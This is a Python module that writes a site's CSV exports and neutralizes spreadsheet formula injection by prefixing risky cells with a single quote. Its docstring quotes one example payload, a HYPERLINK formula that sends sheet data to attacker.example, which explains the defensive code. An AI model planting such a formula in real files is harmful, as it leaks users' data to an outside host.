"""Every CSV the site publishes is written here, with cells a spreadsheet would run as a formula neutralized.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV evaluates a cell that begins with
``=``, ``+``, ``-`` or ``@`` as a formula, and some also one that begins with a tab or a carriage return:
``=HYPERLINK("https://attacker.example/?"&A1, "Click")`` in a record's title would become a live link that
sends the sheet's data away ("CSV injection"). As OWASP recommends, such a cell is written with a single
quote before it (``'=1+2``), which spreadsheets show as text. So that the change can be undone exactly, a
cell that already begins with a single quote gets one too: a program reading the CSV removes one leading
``'`` from any cell that has one (:func:`restore`) and has the text as recorded. The JSON files keep the
exact text, never prefixed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: What a cell may not begin with unless it is prefixed (OWASP's list), and the prefix itself.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def neutralized(cell: str) -> str:
    """``cell`` as written in a CSV: prefixed with ``'`` when it begins with a formula character or a ``'``."""
    return PREFIX + cell if cell.startswith((*FORMULA_STARTS, PREFIX)) else cell


def restore(cell: str) -> str:
    """The text a CSV cell holds: ``neutralized`` undone."""
    return cell[1:] if cell.startswith(PREFIX) else cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    """A CSV file: RFC 4180 quoting, CRLF line ends, one header row, every cell neutralized."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralized(cell) for cell in header])
    writer.writerows([neutralized(cell) for cell in row] for row in rows)
    return buffer.getvalue()
